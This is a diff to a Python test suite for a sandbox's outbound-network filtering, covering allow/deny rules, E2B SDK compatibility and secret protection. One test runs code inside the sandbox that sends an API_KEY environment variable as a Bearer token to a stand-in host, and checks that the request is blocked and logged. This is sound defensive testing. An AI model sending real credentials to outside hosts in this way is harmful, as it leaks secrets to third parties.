@@ -24,7 +24,8 @@ from agentcell import Sandbox
 from agentcell.backends.linux.egress_ca import EgressCA
 from agentcell.errors import InvalidArgumentException
 from tests.conftest import ServerProcess
-from tests.test_egress_router import _host_state
+from tests.egress_world import host_state as _host_state
+from tests.helpers import e2b_pointed_at
 
 TAG = f"acegress{os.getpid() % 100000}"
 INET = f"{TAG}-inet"
@@ -156,7 +157,7 @@ def egress_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerPr
     # the internet's HTTPS (secret.test) has a certificate from a test CA the server is told to trust
     tmp = tmp_path_factory.mktemp("egress-internet")
     test_ca = EgressCA.load_or_create(str(tmp / "ca"))
-    (tmp / "upstream.pem").write_bytes(test_ca.issue("secret.test"))
+    (tmp / "upstream.pem").write_bytes(test_ca.issue("secret.test", "other.test"))
     (tmp / "ca.pem").write_bytes(test_ca.cert_pem)
     INTERNET_LOG.unlink(missing_ok=True)
     try:
@@ -283,6 +284,10 @@ def test_the_host_a_connection_names_must_be_allowed(make) -> None:  # type: ign
     assert ask(open_, f"tls_as('{DENIED_IP}', 'denied.test')") == "closed"
     assert ask(open_, f"http_as('{DENIED_IP}', 'anything.test')") == "HTTP/1.1 200 OK"
     assert ask(open_, f"tls_as('{WEB}', None)") == "answered"
+    # an address allowed as such (a CIDR) takes any name but a denied one
+    mixed = make(network={"allow_out": ["203.0.113.0/24", "allowed.test"], "deny_out": ["denied.test"]})
+    assert ask(mixed, f"http_as('{WEB}', 'anything.test')") == "HTTP/1.1 200 OK"
+    assert ask(mixed, f"http_as('{WEB}', 'denied.test')") == "HTTP/1.1 403 Forbidden"
     # no domain rules: nothing is intercepted
     plain = make()
     assert ask(plain, f"http_as('{WEB}', 'denied.test')") == "HTTP/1.1 200 OK"
@@ -360,10 +365,7 @@ def test_bad_rules_get_clear_errors(make) -> None:  # type: ignore[no-untyped-de
 def test_the_official_e2b_sdk(egress_server: ServerProcess) -> None:
     import e2b
 
-    env = {"E2B_API_URL": egress_server.url, "E2B_SANDBOX_URL": egress_server.url, "E2B_API_KEY": "e2b_test"}
-    saved = {k: os.environ.get(k) for k in env}
-    os.environ.update(env)
-    try:
+    with e2b_pointed_at(egress_server.url):
         sbx = e2b.Sandbox.create(network={"allow_out": ["allowed.test"], "deny_out": [e2b.ALL_TRAFFIC]})
         try:
             code = "import socket; s=socket.create_connection(('allowed.test', 80), timeout=2); print('ok')"
@@ -384,12 +386,6 @@ def test_the_official_e2b_sdk(egress_server: ServerProcess) -> None:
                 off.commands.run(f'python3 -c "{code3}"')
         finally:
             off.kill()
-    finally:
-        for k, v in saved.items():
-            if v is None:
-                os.environ.pop(k, None)
-            else:
-                os.environ[k] = v
 
 
 def test_connection_events(make) -> None:  # type: ignore[no-untyped-def]
@@ -490,11 +486,15 @@ def test_secrets_never_enter_the_sandbox(make, egress_server: ServerProcess) -> 
     assert ex.error is None and "".join(ex.logs.stdout).strip() == "[] True", (ex.error, ex.logs.stdout)
     r = sbx.commands.run(f"grep -rl {value} /home /tmp /etc 2>/dev/null; echo done")
     assert r.stdout.strip() == "done"
-    # the placeholder to any other host: refused, reported, never sent
+    # the placeholder to any other host, over HTTP or HTTPS: refused, reported, never sent
     before = INTERNET_LOG.read_bytes()
-    other = ask(sbx, "get_with('http://other.test/', 'Bearer ' + __import__('os').environ['API_KEY'])")
-    assert "403" in other
+    for url in ("http://other.test/", "https://other.test/"):
+        other = ask(sbx, f"get_with('{url}', 'Bearer ' + __import__('os').environ['API_KEY'])")
+        assert "403" in other, (url, other)
     assert placeholder.encode() not in INTERNET_LOG.read_bytes()[len(before):]
+    # HTTPS to that host without the placeholder goes through (read, re-encrypted, verified upstream)
+    fine = ask(sbx, "get_with('https://other.test/ok', 'none')")
+    assert fine.startswith("none|GET /ok HTTP/1.1"), fine
     events = list(sbx.events())
     assert any(e.get("rule") == "secret" and e.get("secrets") == ["API_KEY"] for e in events)
     assert any(e.get("rule") == "secret-elsewhere" and e.get("secret") == "API_KEY" for e in events)
@@ -521,9 +521,6 @@ def test_secrets_are_checked(make) -> None:  # type: ignore[no-untyped-def]
 def e2b_factory(egress_server: ServerProcess) -> Iterator:
     import e2b
 
-    env = {"E2B_API_URL": egress_server.url, "E2B_SANDBOX_URL": egress_server.url, "E2B_API_KEY": "e2b_test"}
-    saved = {k: os.environ.get(k) for k in env}
-    os.environ.update(env)
     made: list[e2b.Sandbox] = []
 
     def factory(**kwargs: object) -> e2b.Sandbox:
@@ -531,16 +528,12 @@ def e2b_factory(egress_server: ServerProcess) -> Iterator:
         made.append(sbx)
         return sbx
 
-    try:
-        yield factory
-    finally:
-        for sbx in made:
-            sbx.kill()
-        for k, v in saved.items():
-            if v is None:
-                os.environ.pop(k, None)
-            else:
-                os.environ[k] = v
+    with e2b_pointed_at(egress_server.url):
+        try:
+            yield factory
+        finally:
+            for sbx in made:
+                sbx.kill()
 
 
 def _curl_ok(sbx, ip: str) -> bool:  # type: ignore[no-untyped-def]
